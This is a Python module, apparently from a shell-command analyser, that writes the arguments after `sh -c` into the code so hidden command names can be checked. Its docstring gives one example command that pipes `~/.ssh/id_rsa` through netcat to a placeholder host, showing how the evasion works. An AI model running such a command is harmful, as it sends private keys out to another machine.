"""``sh -c CODE NAME ARG…``: the words after the code are its ``$0``, ``$1`` …

``sh -c '"$1" "$2" | "$3" …' _ cat ~/.ssh/id_rsa nc host 7000`` hides every program name in
the positional parameters, so the code alone names none. When every word after the code is
known, :func:`bound` writes them into the code (quoted, as the shell would pass them) and the
code is analysed as what it runs; a word known only at run time leaves the code as it is,
and its computed command names ask.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Sequence

# "$1", ${1}, $1, "$@", $@, "$*", $* (and $0): each a reference to the words given.
_REFERENCE = re.compile(r'"\$(\d|\{\d\}|@|\*)"|\$(\d|\{\d\}|@|\*)')
# A home path as the outer shell passed it: already expanded, so written bare (quoting would
# turn ``~`` back into a literal folder name).
_HOME = re.compile(r"~[\w.-]*(/[\w.@%+=:,/-]*)?")


def _word(param: str) -> str:
    return param if _HOME.fullmatch(param) else shlex.quote(param)


def bound(code: str, params: Sequence[str]) -> str:
    """``code`` with its positional parameters replaced by ``params`` (``params[0]`` is
    ``$0``); a parameter not given is empty, as in the shell."""

    def value(match: re.Match[str]) -> str:
        key = (match.group(1) or match.group(2)).strip("{}")
        if key in ("@", "*"):
            return " ".join(_word(p) for p in params[1:])
        index = int(key)
        return _word(params[index]) if index < len(params) else "''"

    return _REFERENCE.sub(value, code)
